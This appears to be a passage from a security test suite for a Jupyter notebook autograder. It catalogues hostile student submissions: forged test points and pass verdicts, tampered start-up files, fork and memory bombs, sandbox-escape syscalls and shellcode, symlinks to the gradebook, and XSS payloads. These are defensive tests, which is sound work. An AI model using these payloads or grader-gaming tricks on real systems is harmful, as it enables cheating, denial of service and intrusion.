os.killpg(0, signal.SIGKILL)
""",
)
attack(
    LATER,
    "stops-itself",
    "stops its own process instead of ending it",
    end="import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nos.killpg(0, signal.SIGSTOP)",
)


# Tags and metadata

EDITED = "edited notebooks"


def editing(name: str, tries: str):
    def add(edit):
        attack(EDITED, name, tries, edit=edit)
        return edit

    return add


def _tests(notebook: NotebookNode) -> list[NotebookNode]:
    return [cell for cell in notebook.cells if str(cell.id).startswith("test-")]


def _folder_for_file(place: Path) -> None:
    (place / "helper.py").unlink()
    (place / "helper.py").mkdir()
    (place / "helper.py" / "tolerance.py").write_text("")


def _outputs(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.execution_count = 1
        cell.outputs = [new_output("execute_result", OUTCOME, execution_count=1)]


@editing("tags", "marks its test cells to be skipped")
def _(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.metadata["tags"] = ["skip-execution", "raises-exception", "remove-cell", "in-process"]


@editing("more-points", "gives itself points in the metadata")
def _(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.metadata.nbgrader["points"] = 1000
    notebook.metadata["points"] = 1000


@editing("odd-points", "has points that are no numbers")
def _(notebook: NotebookNode) -> None:
    for cell, points in zip(_tests(notebook), ("NaN", [], {"a": 1}, -5, "1e9"), strict=True):
        cell.metadata.nbgrader["points"] = points


@editing("swapped-tests", "gives all tests the name of the one that it passes")
def _(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.metadata.nbgrader["grade_id"] = "test-add"


@editing("swapped-names", "exchanges the names of the tests")
def _(notebook: NotebookNode) -> None:
    cells = _tests(notebook)
    names = [cell.metadata.nbgrader["grade_id"] for cell in cells]
    for cell, name in zip(cells, names[1:] + names[:1], strict=True):
        cell.metadata.nbgrader["grade_id"] = name


@editing("emptied-tests", "unlocks the tests and empties them")
def _(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.metadata.nbgrader |= {"locked": False, "solution": True}
        cell.source = "pass"


@editing("tests-as-text", "makes text cells of the tests")
def _(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.cell_type = "markdown"
        cell.source = "passed"
        del cell["outputs"], cell["execution_count"]


@editing("raw-tests", "makes raw cells of the tests")
def _(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.cell_type = "raw"
        del cell["outputs"], cell["execution_count"]


@editing("answers-as-tests", "marks its own cells as tests, also under the tests' names")
def _(notebook: NotebookNode) -> None:
    for name in ("total", "model", "extra"):
        tested = marks(f"test-{name}", 100)
        notebook.cells.insert(2, new_code_cell("3.0", metadata=tested))


@editing("doubled-tests", "has each test twice, first with a source of its own")
def _(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        twin = new_code_cell("pass", metadata=cell.metadata)
        notebook.cells.insert(notebook.cells.index(cell), twin)


@editing("deleted-tests", "leaves the tests out that it does not pass")
def _(notebook: NotebookNode) -> None:
    for cell in _tests(notebook)[1:]:
        notebook.cells.remove(cell)


@editing("tests-first", "moves the tests before everything, and its answers to the end")
def _(notebook: NotebookNode) -> None:
    notebook.cells.sort(key=lambda cell: not str(cell.id).startswith("test-"))


@editing("other-kernel", "asks for a kernel of its own with a command to start")
def _(notebook: NotebookNode) -> None:
    notebook.metadata["kernelspec"] = {
        "name": "bash", "language": "bash", "display_name": "b",
        "argv": ["sh", "-c", "touch /tmp/ai4gov-attack-other-kernel"],
    }  # fmt: skip
    notebook.metadata["language_info"] = {"name": "bash"}


@editing("our-metadata", "forges what the grader itself keeps in a notebook")
def _(notebook: NotebookNode) -> None:
    notebook.metadata["ai4gov"] = {
        "language": "../../..", "mode": "in-process", "in-process": True, "attention": "none",
        "graded": {"level": "cgroup", "mode": "examiner", "points": 10},
    }  # fmt: skip
    notebook.metadata["celltoolbar"] = "Create Assignment"
    notebook.metadata["nbgrader"] = {"mode": "in-process", "points": 1000}


@editing("odd-marks", "has marks of other versions and of wrong types")
def _(notebook: NotebookNode) -> None:
    cells = _tests(notebook)
    cells[0].metadata.nbgrader["schema_version"] = 99
    cells[1].metadata.nbgrader["schema_version"] = 1
    cells[2].metadata["nbgrader"] = [1, 2]
    cells[3].metadata.nbgrader["grade_id"] = ["test-share"]


@editing("odd-cells", "has cells with doubled ids, broken sources and lists for texts")
def _(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell["id"] = "same"
    notebook.cells.append(new_code_cell("def (:\n \x00", id="same"))
    notebook.cells.append(new_code_cell("\ud800", id="same"))


@editing("odd-version", "says that it is of a format to come")
def _(notebook: NotebookNode) -> None:
    notebook["nbformat"], notebook["nbformat_minor"] = 4, 99
    notebook.metadata["orig_nbformat"] = 99


@editing("deep-metadata", "nests its metadata deeply")
def _(notebook: NotebookNode) -> None:
    nested: list = []
    for _ in range(900):
        nested = [nested]
    notebook.metadata["deep"] = nested
    notebook.cells[-1].metadata["deep"] = nested


attack(
    EDITED,
    "deep-notebook",
    "is a notebook of brackets only, a hundred thousand deep",
    folder=lambda place, course: (place / f"{NAME}.ipynb").write_text("[" * 100_000) and None,
)
attack(
    EDITED,
    "many-cells",
    "has three thousand cells",
    edit=lambda notebook: notebook.cells.extend(new_code_cell("1") for _ in range(3000)),
)
attack(
    EDITED,
    "large-notebook",
    "has a cell of eight million characters",
    edit=lambda notebook: notebook.cells.append(new_code_cell("x = '" + "x" * 8_000_000 + "'")),
)


@editing("full-metadata", "fills its metadata with a million empty mappings")
def _(notebook: NotebookNode) -> None:
    notebook.metadata["full"] = [{}] * 1_000_000


@editing("full-outputs", "is handed in with an output of a million empty lists")
def _(notebook: NotebookNode) -> None:
    data = {"application/json": [[]] * 1_000_000}
    notebook.cells.append(new_code_cell("1", outputs=[new_output("display_data", data)]))


@editing("carriage-returns", "has Markdown come to life after a gap of carriage returns")
def _(notebook: NotebookNode) -> None:
    gap = "\r\r[a](javascript:alert(1)) ![b](https://example.org/b) <script>alert(1)</script>"
    notebook.cells += [new_markdown_cell("<i>" * 600 + gap), new_raw_cell("a" + gap)]


@editing("half-characters", "has halves of characters in its texts, names, marks and outputs")
def _(notebook: NotebookNode) -> None:
    half = chr(0xD800) + "x"
    shown = (
        "print(half)\ndisplay({'text/html': half, half: half}, raw=True)\nraise ValueError(half)"
    )
    notebook.metadata[half] = half
    notebook.cells.insert(1, new_code_cell("half = chr(0xd800) + 'x'\n" + shown))
    notebook.cells.insert(1, new_markdown_cell(half, metadata={half: half}))
    notebook.cells.append(new_code_cell(f"x = '{half}'", metadata={"nbgrader": half}))


# Start-up and configuration files

STARTUP = "start-up and configuration files"

PROFILE = (LEAVE + "leave()\nimport builtins, numpy.testing\n"
           "numpy.testing.assert_allclose = print\nbuiltins.abs = None\n").encode()  # fmt: skip
attack(
    STARTUP,
    "startup-handed-in",
    "hands in start-up and configuration files of every kind",
    files={
        name: PROFILE
        for name in (
            ".ipython/profile_default/startup/00-attack.py",
            ".ipython/profile_default/ipython_config.py",
            "ipython_config.py",
            "sitecustomize.py",
            "usercustomize.py",
            "conftest.py",
            "nbgrader_config.py",
            "jupyter_config.py",
            ".pythonrc.py",
            "autograder.py",
            "autograder/__init__.py",
            ".jupyter/jupyter_config.py",
            "IPython.py",
            "nbformat.py",
        )
    }
    | {
        "attack.pth": b"import os; os.mkdir('/tmp/ai4gov-attack-startup')",
        "pyvenv.cfg": b"home = /tmp",
        "matplotlibrc": b"backend: module://attack",
    },
)
attack(
    STARTUP,
    "startup-written",
    "writes start-up files for whoever is graded next",
    start=LOOK
    + """
import site, sysconfig
code = "import builtins, numpy.testing; numpy.testing.assert_allclose = print\\n"
places = ["~/.ipython/profile_default/startup/00.py", "~/.pythonrc", "~/sitecustomize.py",
          "@COURSE@/nbgrader_config.py", "/etc/ipython/ipython_config.py", "/tmp/sitecustomize.py"]
places += [f"{each}/ai4gov-attack-@NAME@.pth" for each in [*site.getsitepackages(),
           site.getusersitepackages(), sysconfig.get_path("stdlib"), *sys.path] if each]
places += [os.path.join(os.path.dirname(np.__file__), "testing/ai4gov-attack-@NAME@.py")]
for each in places:
    def write(path=os.path.expanduser(each)):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "a").write(code)
    attempt(write)
""",
)
attack(
    STARTUP,
    "environment-written",
    "changes environment variables, paths and limits",
    start="""
import os, sys, resource, locale
os.environ.update(PYTHONSTARTUP="/tmp/x.py", PYTHONPATH="/tmp", LD_PRELOAD="/tmp/x.so",
                  PATH="/tmp", HOME="/", AI4GOV_CHECKS="/tmp", NBGRADER_EXECUTION="", TZ="Mars")
sys.path[:] = ["/tmp"]
os.umask(0); os.chdir("/")
""",
)


# Loops

LOOPS = "loops without end"

DEAF = """
while True:
    try:
        while True: pass
    except BaseException: pass
"""
attack(LOOPS, "loop-deaf", "loops and swallows every interrupt", end=DEAF)
attack(
    LOOPS,
    "loop-signals",
    "ignores signals and loops",
    end="import signal\nfor n in (2, 15):\n    signal.signal(n, signal.SIG_IGN)\nwhile True: pass",
)
attack(
    LOOPS,
    "loop-in-test",
    "loops without end when a test calls it",
    total="def total(values, weight):" + DEAF.replace("\n", "\n    "),
)
attack(
    LOOPS, "loop-in-c", "spends hours inside one call that hears nothing", end="sum(range(10**13))"
)
attack(
    LOOPS,
    "loop-regex",
    "has a regular expression that never ends",
    end="import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')",
)
attack(
    LOOPS,
    "slow-iterator",
    "gives a test values slowly and without end",
    total="""
import time
class Slow:
    def __iter__(self): return self
    def __next__(self): time.sleep(0.05); return 1.0
    __len__ = lambda self: 10**9
    def __float__(self): time.sleep(9); return 1.0
    def __sub__(self, other): time.sleep(9)
    def __getitem__(self, key): return 1.0
def total(values, weight): return Slow()
""",
    model="class Slow2(list):\n    pass\nmodel = X = total([], None)",
    share="share = model",
)
attack(
    LOOPS,
    "endless-iterator",
    "gives a test values fast and without end",
    model="""
import itertools
class Model(LogisticRegression):
    def predict(self, X): return itertools.count()
    def score(self, *args): return 1.0
X = pd.DataFrame({"x": range(20)})
model = Model().fit(X, [0, 1] * 10)
""",
)
attack(
    LOOPS,
    "ping-pong",
    "calls back into the test's function for ever",
    total="def total(values, weight):\n    while True:\n"
    "        try: weight(1.0)\n        except Exception: pass",
)
attack(
    LOOPS,
    "asks-a-person",
    "waits for input and for a debugger",
    start="try: input('?')\nexcept BaseException as e: print(repr(e))",
    end="import sys, os\nprint(sys.stdin.read() if sys.stdin else '')\nbreakpoint()",
)
attack(
    LOOPS,
    "slow-finaliser",
    "sleeps whenever one of its values is dropped",
    total="""
import time
class Sleepy:
    def __del__(self): time.sleep(30)
def total(values, weight): return Sleepy()
""",
)


# Floods

FLOODS = "floods"

attack(
    FLOODS,
    "flood-memory",
    "takes all the memory that it can get",
    end="held = []\nwhile True: held.append(bytearray(b'x') * 50_000_000)",
)
attack(
    FLOODS,
    "flood-shared-memory",
    "takes memory that is shared and counted to nobody",
    end="""
import mmap, os
held = []
try:
    for _ in range(40):
        held.append(mmap.mmap(-1, 50_000_000)); held[-1].write(b"x" * 50_000_000)
except (OSError, ValueError) as error: print(error)
try:
    for number in range(40):
        open(f"/dev/shm/ai4gov-attack-@NAME@{number}", "wb").write(b"x" * 10_000_000)
except OSError as error: print(error)
""",
)
attack(
    FLOODS,
    "flood-memory-of-many",
    "takes memory in many processes, each a little",
    end="""
import os, select, time
reader, writer = os.pipe()
children = []
for _ in range(6):
    children.append(os.fork())
    if children[-1] == 0:
        kept = bytearray(b"x") * 200_000_000
        os.write(writer, b"x")
        time.sleep(60)
held, ends = 0, time.monotonic() + 2
while held < 6 and time.monotonic() < ends:
    if select.select([reader], [], [], 0.1)[0]:
        held += len(os.read(reader, 10))
time.sleep(1)  # One that has been killed is still there for a moment.
held = min(held, sum(os.waitpid(child, os.WNOHANG) == (0, 0) for child in children))
print("MEMORY BEYOND THE BOUND" if held * 200_000_000 > 2**30 else "bounded", held)
""",
)
attack(
    FLOODS,
    "flood-processes",
    "forks without end",
    end="import os\nfor _ in range(3000):\n    try: os.fork()\n    except OSError: pass",
)
attack(
    FLOODS,
    "flood-threads",
    "starts threads without end",
    end="""
import threading, time
try:
    for _ in range(5000): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
except RuntimeError as error: print(error)
""",
)
attack(
    FLOODS,
    "flood-disk",
    "writes large files",
    end="""
written = 0
try:
    for number in range(30):
        with open(f"big{number}", "wb") as file:
            for _ in range(30): written += file.write(b"x" * 1_000_000)
except OSError as error: print(error)
print("DISK BEYOND THE BOUND" if written > 300_000_000 else "bounded", written)
""",
)
attack(
    FLOODS,
    "flood-files",
    "makes files without number",
    end="""
import os
made = 0
try:
    os.mkdir("many"); os.chdir("many")
    for made in range(60_000): os.close(os.open(str(made), os.O_CREAT))
except OSError as error: print(error)
print("FILES BEYOND THE BOUND" if made > 50_000 else "bounded", made)
""",
)
attack(
    FLOODS,
    "flood-descriptors",
    "opens files, pipes and sockets without end",
    end="""
import os, socket
held = []
try:
    while True: held.append(os.pipe()); held.append(socket.socketpair())
except OSError as error: print(error)
""",
)
attack(FLOODS, "flood-output", "prints without end", end="while True: print('x' * 10_000)")
attack(
    FLOODS,
    "flood-raw-output",
    "lets a command print without end",
    end="import subprocess\nsubprocess.run(['sh', '-c', 'yes xxxxxxxxxxxxxxxxxxxxxxxxxxx'])",
)
attack(
    FLOODS,
    "flood-displays",
    "shows large pictures and tables without number",
    end="""
from IPython.display import HTML, display
for _ in range(2000): display(HTML("<p>" + "x" * 100_000))
for _ in range(20_000): display(1)
""",
)
attack(
    FLOODS,
    "flood-notebook",
    "fills each of three hundred cells as far as a cell may be filled",
    edit=lambda notebook: notebook.cells.extend(
        new_code_cell("print('x' * 1_000_000)", id=f"full-{number}") for number in range(300)
    ),
)
attack(
    FLOODS,
    "flood-past-the-recorder",
    "tells of sixty million characters for each cell, past what counts them",
    start="""
from autograder.learner import process as learner
async def run_cell(shell, source):
    data = {"text/plain": "x" * 60_000_000}
    shell.kernel.session.outputs = [{"output_type": "display_data", "data": data, "metadata": {}}]
    return {"status": "ok", "execution_count": 1}
learner.run_cell = run_cell
""",
    edit=lambda notebook: notebook.cells.extend(
        new_code_cell("pass", id=f"full-{number}") for number in range(40)
    ),
)
attack(
    FLOODS,
    "flood-repr",
    "has a text form of two hundred million characters",
    end="class Long:\n    __repr__ = lambda self: 'x' * 200_000_000\nLong()",
)
attack(
    FLOODS,
    "flood-output-in-test",
    "prints without end when a test calls it",
    total="def total(values, weight):\n    while True: print('x' * 10_000)",
)
attack(
    FLOODS,
    "flood-values",
    "gives a test values of hundreds of megabytes",
    total="def total(values, weight):\n    return np.zeros(40_000_000)",
    share="share = list(range(6_000_000))",
    model="model = X = 'x' * 300_000_000",
)
attack(
    FLOODS,
    "flood-colliding-keys",
    "gives a test a set whose items all collide",
    share="share = dict.fromkeys(each * (2**61 - 1) for each in range(1, 12_000))",
)


# Network

NETWORK = "network"

attack(
    NETWORK,
    "connect-tcp",
    "connects to a port of this machine, and listens itself",
    start=REACH + "\nsocket.create_server(('0.0.0.0', 0))",
)
attack(
    NETWORK,
    "connect-local",
    "connects to a socket in the course folder",
    start=CONNECT + "say(socket.SOCK_STREAM, socket.AF_UNIX, '@SOCKET@')",
)
attack(
    NETWORK,
    "connect-abstract",
    "connects to a socket without a path",
    start=CONNECT + "say(socket.SOCK_STREAM, socket.AF_UNIX, chr(0) + '@ABSTRACT@')",
)
attack(
    NETWORK,
    "send-datagrams",
    "sends datagrams, asks for names, opens raw and kernel sockets",
    start=CONNECT
    + """
say(socket.SOCK_DGRAM, socket.AF_INET, ("127.0.0.1", int("@DATAGRAMS@")))
for family in (16, 17, 38, 40, 10, 31):
    for kind in (1, 2, 3, 5):
        try: print("OPENED", family, kind, socket.socket(family, kind))
        except OSError as error: print(error)
try: print(socket.gethostbyname("example.org"))
except OSError as error: print(error)
""",
)
attack(
    NETWORK,
    "connect-commands",
    "lets curl, bash and Python's own commands connect",
    start="""
import subprocess, sys
for command in (["curl", "-m1", "http://127.0.0.1:@PORT@/@NAME@"],
                ["bash", "-c", "echo -n @NAME@ > /dev/tcp/127.0.0.1/@PORT@"],
                [sys.executable, "-c", "import socket; socket.create_connection(('127.0.0.1', "
                 "@PORT@)).send(b'@NAME@')"]):
    try: print(subprocess.run(command, capture_output=True, timeout=1))
    except BaseException as error: print(type(error))
""",
)
attack(
    NETWORK,
    "connect-ring",
    "goes round the filter by io_uring and by 32-bit calls",
    start="""
import ctypes, mmap, os
libc = ctypes.CDLL(None, use_errno=True)
print(libc.syscall(425, 8, ctypes.create_string_buffer(120)), ctypes.get_errno())
if os.fork() == 0:
    print("OPENED" if libc.syscall(0x40000000 + 41, 2, 1, 0) >= 0 else "", flush=True)
    os._exit(0)
print(os.wait())
# mov eax, 359 (socket of 32 bits); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; ret
code = bytes.fromhex("53b867010000bb02000000b90100000031d2cd805bc3")
if os.uname().machine == "x86_64":
    place = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS,
                      prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    place.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(place))
    if os.fork() == 0:
        opened = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
        print("OPENED" if opened >= 0 else opened, flush=True)
        os._exit(0)
    print(os.wait())
""",
)


# Scripts in feedback

SCRIPTS = "scripts in feedback"

ACTIVE = (
    "<script>alert(1)</script><img src=x onerror=alert(1)><iframe src='javascript:alert(1)'>"
    "</iframe><svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>"
    "<a href='java&#x09;script:alert(1)'>x</a><form action='http://example.org'><input></form>"
    "<meta http-equiv=refresh content='0;url=http://example.org'><base href='http://example.org'>"
    "<div style='background:url(http://example.org/x)'>x</div></pre></div></main>"
    "<link rel=stylesheet href='http://example.org'><math><mi xlink:href='javascript:1'></math>"
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>"
)
attack(
    SCRIPTS,
    "script-in-html",
    "shows HTML that runs and fetches",
    start=f"from IPython.display import HTML\nHTML({ACTIVE!r})",
)
attack(
    SCRIPTS,
    "script-in-output",
    "shows JavaScript, SVG, LaTeX and pictures that are none",
    start=f"""
from IPython.display import display
for kind in ("text/html", "image/svg+xml", "application/javascript", "text/markdown", "text/latex",
             "image/png", "image/jpeg", "text/plain", "application/vnd.ai4gov.outcome+json"):
    display({{kind: {ACTIVE!r}}}, raw=True)
""",
)
attack(
    SCRIPTS,
    "script-in-prose",
    "writes text cells with HTML that runs",
    edit=lambda notebook: notebook.cells.extend(
        [
            new_markdown_cell(ACTIVE),
            new_markdown_cell(
                f"# {ACTIVE}\n[x](javascript:alert(1))\n\n"
                f"![x](http://example.org/x.png)\n\n```html\n{ACTIVE}\n```\n$<script>alert(1)</script>$"
            ),
        ]
    ),
)
attack(
    SCRIPTS,
    "script-in-errors",
    "raises errors whose name and text are HTML",
    start=f"raise type({ACTIVE!r}, (Exception,), {{}})({ACTIVE!r})",
    total=f"def total(values, weight):\n    raise ValueError({ACTIVE!r})",
    share=f"print({ACTIVE!r})\nshare = {ACTIVE!r}",
)
attack(
    SCRIPTS,
    "script-in-metadata",
    "has HTML in names, languages, ids and file names",
    files={"<img src=x onerror=alert(1)>.txt": b"x"},
    edit=lambda notebook: notebook.metadata.update(
        {
            "title": ACTIVE,
            "ai4gov": {"language": ACTIVE, "attention": [{"code": ACTIVE}, ACTIVE]},
            "kernelspec": {"name": ACTIVE, "display_name": ACTIVE, "language": ACTIVE},
            "authors": [{"name": ACTIVE}],
        }
    ),
)


# Links and devices in what is handed in

LINKS = "links and devices in what is handed in"


def linking(name: str, tries: str, **told):
    def add(folder):
        attack(LINKS, name, tries, folder=folder, **told)
        return folder

    return add


OPEN_ALL = LOOK + "walk('.')\nprint([(p, f) for p, _, f in os.walk('.')])"


@linking("link-to-gradebook", "hands in links to the gradebook and to others", start=OPEN_ALL)
def _(place: Path, course: Path) -> None:
    (place / "gradebook.db").symlink_to(course / "gradebook.db")
    (place / "others").symlink_to(course / "submitted" / "m-other")
    (place / "hidden.py").symlink_to(course / "checks" / NAME / "hidden_checks.py")
    (place / "up").symlink_to("../..")
    (place / "loop").symlink_to("loop")


@linking("link-as-notebook", "hands in a link to the instructor's notebook as its own")
def _(place: Path, course: Path) -> None:
    (place / f"{NAME}.ipynb").unlink()
    (place / f"{NAME}.ipynb").symlink_to(course / "source" / NAME / f"{NAME}.ipynb")


@linking("link-as-data", "hands in a link where the instructor has a file", start=OPEN_ALL)
def _(place: Path, course: Path) -> None:
    (place / "helper.py").unlink()
    (place / "helper.py").symlink_to(course / "secret.txt")


@linking("endless-device", "hands in devices, pipes and sockets that never end", start=OPEN_ALL)
def _(place: Path, course: Path) -> None:
    (place / "zero").symlink_to("/dev/zero")
    os.mkfifo(place / "pipe")
    here = os.getcwd()
    os.chdir(place)
    socket.socket(socket.AF_UNIX).bind("sock")
    os.chdir(here)
    if os.geteuid() == 0:
        os.mknod(place / "device", stat.S_IFCHR | 0o666, os.makedev(1, 5))


@linking("notebook-is-a-pipe", "hands in a pipe in place of the notebook")
def _(place: Path, course: Path) -> None:
    (place / f"{NAME}.ipynb").unlink()
    os.mkfifo(place / f"{NAME}.ipynb")


@linking("notebook-is-a-folder", "hands in a folder in place of the notebook")
def _(place: Path, course: Path) -> None:
    (place / f"{NAME}.ipynb").unlink()
    (place / f"{NAME}.ipynb").mkdir()


@linking(
    "odd-names", "hands in files with names that lead elsewhere or are no text", start=OPEN_ALL
)
def _(place: Path, course: Path) -> None:
    names = [b"..\\..\\x", b"new\nline", b"\xff\xfe", b"-rf", b"%s%n{0}", b"x" * 250, b".ps1.new"]
    for name in names:
        Path(os.fsdecode(os.fsencode(place) + b"/" + name)).write_bytes(b"x")


@linking("hollow-file", "hands in a file that says it has a terabyte")
def _(place: Path, course: Path) -> None:
    with open(place / "hollow.csv", "wb") as file:
        file.truncate(2**40)


@linking("unreadable-file", "hands in files that may not be read")
def _(place: Path, course: Path) -> None:
    (place / "closed.txt").write_text("x")
    (place / "closed.txt").chmod(0)
    (place / "closed").mkdir(mode=0o300)


@linking("odd-timestamp", "hands in a timestamp that is none")
def _(place: Path, course: Path) -> None:
    (place / "timestamp.txt").write_text("the day before\x00 yesterday, 99999-99-99")


@linking("early-timestamp", "hands in a timestamp of the year one")
def _(place: Path, course: Path) -> None:
    (place / "timestamp.txt").write_text("0001-01-01 00:00:00 +23:59")


@linking("many-files", "hands in thousands of files in deep folders")
def _(place: Path, course: Path) -> None:
    deep = place
    for _ in range(60):
        deep = deep / "d"
    deep.mkdir(parents=True)
    for number in range(3000):
        (place / f"{number}.txt").write_text("x")
    (deep / "x").write_text("x")


# Attacks on the talk between the processes

PROTOCOL = "forged messages between the processes"

attack(
    PROTOCOL,
    "forge-verdicts",
    "tells the grader that all tests have passed",
    start=FINGERS
    + """
for index in range(12):
    for kind in ("test", "cell"):
        shout(frame({"did": kind, "index": index, "status": "ok", "execution_count": 1,
                     "outputs": [{"output_type": "execute_result", "data": {"text/plain": "3.0"},
                                  "metadata": {}, "execution_count": 1}],
                     "trips": 0, "gone": False, "parts": []}))
""",
)
attack(
    PROTOCOL,
    "forge-answers",
    "answers the examiner before it has asked",
    start=FINGERS
    + """
for number in range(1, 400):
    shout(frame({"n": number, "values": [[True, 0]], "changed": [], "parts": []}))
""",
)
attack(
    PROTOCOL,
    "forge-answers-in-time",
    "answers each question with full points, from a thread",
    start=FINGERS
    + """
def always():
    while True:
        for number in range(1, 60):
            shout(frame({"n": number, "values": [[48152, 0]], "changed": [], "parts": []}))
        time.sleep(0.01)
threading.Thread(target=always, daemon=True).start()
""",
)
attack(
    PROTOCOL, "garbage", "writes noise to the grader", start=FINGERS + "shout(os.urandom(100_000))"
)
attack(
    PROTOCOL,
    "half-message",
    "begins a message and never ends it",
    start=FINGERS + "shout(struct.pack('!II', 1000, 0) + b'{')",
)
attack(
    PROTOCOL,
    "large-message",
    "announces messages of four gigabytes",
    start=FINGERS + "shout(struct.pack('!II', 2**32 - 1, 2**32 - 1) + b'x' * 100_000)",
)
attack(
    PROTOCOL,
    "deep-message",
    "sends a message nested a hundred thousand deep",
    start=FINGERS + "shout(frame(b'[' * 100_000)); shout(frame(b'{\"parts\":' * 50_000))",
)
attack(
    PROTOCOL,
    "lying-lengths",
    "lies about the lengths of a message's parts",
    start=FINGERS
    + """
for parts in ([-1, 5], [10**18], [True], ["4"], [[4]], {"a": 4}, None, [2**63] * 3):
    shout(frame({"n": 1, "did": "cell", "values": [["x", 9]], "parts": parts}, b"abcd"))
""",
)
attack(
    PROTOCOL,
    "odd-outputs",
    "tells of outputs that are none",
    end="""
import gc
from autograder.learner import process as learner
class Odd(list): pass
async def run_cell(shell, source):
    return {"status": ["ok"], "execution_count": {"a": 1}, "outputs": 5}
learner.run_cell = run_cell
for each in gc.get_objects():
    if isinstance(each, learner.Recorder):
        each.begin = lambda index: None
        each.outputs = [{"output_type": "stream"}, {"output_type": "error"}, 7, None,
            {"output_type": "display_data", "data": "x"}, {"output_type": ["stream"]},
            {"output_type": "execute_result", "data": {"text/html": {"a": [1]}}, "metadata": 5},
            {"output_type": "error", "ename": 1, "evalue": [], "traceback": 5},
            {"output_type": "stream", "name": 5, "text": {"a": 1}}]
""",
)
attack(
    PROTOCOL,
    "closed-sockets",
    "closes its sockets while the notebook runs",
    end=FINGERS + "for each in sockets(): each.shutdown(socket.SHUT_RDWR)",
)
attack(
    PROTOCOL,
    "passed-descriptors",
    "passes open files through the sockets by the thousand",
    start=FINGERS
    + """
for each in sockets():
    for _ in range(50):
        try: socket.send_fds(each, [b""], [0] * 200, socket.MSG_DONTWAIT)
        except OSError as error: print(error); break
""",
)
ASKING = """
from autograder.learner import process as learner
inner = learner.Answering.perform
def perform(self, what, target, *args, **kwargs):
    DO
    return inner(self, what, target, *args, **kwargs)
learner.Answering.perform = perform
import builtins
said = []
"""


def asking(do: str) -> str:
    return ASKING.replace("DO", do.replace("\n", "\n    "))


attack(
    PROTOCOL,
    "ask-examiner",
    "asks the examiner for its names, its frames and its modules",
    start=asking("""
for number in range(1, 30):
    for request in (["get", "__globals__"], ["get", "__class__"], ["special", "__reduce__"],
                    ["name", "expected"], ["names"], ["module", "os"], ["dir"], ["call"],
                    ["bind", "share", 0.4375], ["unbind", "x"], ["set", "__class__", 5],
                    ["update"], ["keep", []], ["copy"], ["await"]):
        if len(said) < 2000:
            try:
                self.count += 1
                self._send({"n": self.count, "ask": request[0], "keywords": [],
                            "on": ["object", "T", number]},
                           [learner.Packed(each, []) for each in request[1:]])
                said.append(str(self._answer_to(self.count, []))[:2000])
            except BaseException as error: said.append(repr(error)[:300])
"""),
    end="print(said)",
)
attack(
    PROTOCOL,
    "flood-of-types",
    "introduces classes and objects by the hundred thousand",
    start=asking("""
for number in range(1000, 100_000):
    self.pending.append(["class", number, {"module": "builtins", "name": "float", "bases": [],
                                           "specials": ["__eq__", "__float__", "__class__"]}])
    self.pending.append(["object", number, number, None])
"""),
)
attack(
    PROTOCOL,
    "forged-types",
    "introduces objects as floats, types and functions of libraries",
    start=asking("""
for number, (module, name) in enumerate([("builtins", "float"), ("builtins", "type"),
        ("builtins", "function"), ("numpy", "float64"), ("builtins", "AssertionError"),
        ("builtins", "SystemExit"), ("builtins", "GeneratorExit"), ("os", "_wrap_close"),
        ("subprocess", "Popen"), ("sklearn.linear_model._logistic", "LogisticRegression"),
        ("unittest.case", "SkipTest"), ("__main__", "x"), ("builtins", "BaseException")], 5000):
    if number not in self.told:
        self.told.add(number)
        self.pending.append(["class", number, {"module": module, "name": name, "bases": [],
            "specials": ["__eq__", "__float__", "__call__", "__sub__", "__abs__", "__lt__"]}])
        self.pending.append(["object", number, number, {"text": "3.0"}])
if what == "call":
    said.append(1)
    return learner.Packed(["object", "S", 5000 + len(said) % 13], [])
"""),
)
attack(
    PROTOCOL,
    "class-of-the-test",
    "makes objects of the classes that a test's own objects have",
    total="""
def total(values, weight):
    from autograder.learner import process as learner
    from autograder.bridge.proxy import facts_of
    link = facts_of(weight)[0]
    class Named: pass
    named, inner = Named(), learner.Answering.known
    for number in range(1, 30):
        tag = ["named", ["class", "T", number], ["path"], ["/proc/self/environ"]]
        learner.Answering.known = lambda self, each: tag if each is named else inner(self, each)
        for do in (lambda: weight(named), lambda: link.their_types[number]("hidden_checks.py")):
            try: print(str(do())[:1000])
            except Exception as error: print(error)
    return 0
""",
)
attack(
    PROTOCOL,
    "many-brackets",
    "tells of what a cell has shown in twenty million empty lists",
    start="""
from autograder import channel as frames
import json, struct
inner = frames.Channel.send
def send(self, header, *rest):
    if header.get("did") != "cell":
        return inner(self, header, *rest)
    told = json.dumps(header | {"parts": []})[:-1].encode() + b',"x":[' + b"[]," * 21_000_000
    self.sock.sendall(struct.pack("!II", len(told) + 3, 0) + told + b"0]}")
frames.Channel.send = send
""",
)
MIRRORED = """
from autograder.learner import process as learner
inner = learner.Answering.perform
learner.Answering.aside = lambda self: {"files": True}
count = 0
def perform(self, what, target, *args, **kwargs):
    global count
    count += 1
    return FILES if what == "files" else inner(self, what, target, *args, **kwargs)
learner.Answering.perform = perform
"""
attack(
    PROTOCOL,
    "mirrored-names",
    "names files for the test that lie elsewhere or are the instructor's",
    start=MIRRORED.replace(
        "FILES",
        "dict.fromkeys([*(top + name + end for top in ('', '../', '/tmp/', '/tmp/tmp/../../', "
        "'@COURSE@/', 'numpy/') for name in ('helper', 'checks', 'hidden_checks', '__init__', "
